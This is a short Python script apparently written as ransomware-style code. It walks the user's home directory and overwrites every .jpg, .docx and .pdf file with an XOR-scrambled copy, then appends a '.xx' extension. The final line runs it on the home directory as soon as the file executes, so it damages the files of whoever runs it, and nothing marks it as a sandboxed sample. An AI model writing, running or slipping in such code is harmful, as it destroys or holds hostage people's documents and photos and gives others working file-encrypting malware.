from pathlib import Path


def scramble(data: bytes, key: int = 0x37) -> bytes:
    return bytes(b ^ key for b in data)


def run(root: Path):
    for p in root.rglob("*"):
        if p.is_file() and p.suffix in {".jpg", ".docx", ".pdf"}:
            p.write_bytes(scramble(p.read_bytes()))
            p.rename(p.with_suffix(p.suffix + ".xx"))


run(Path.home())
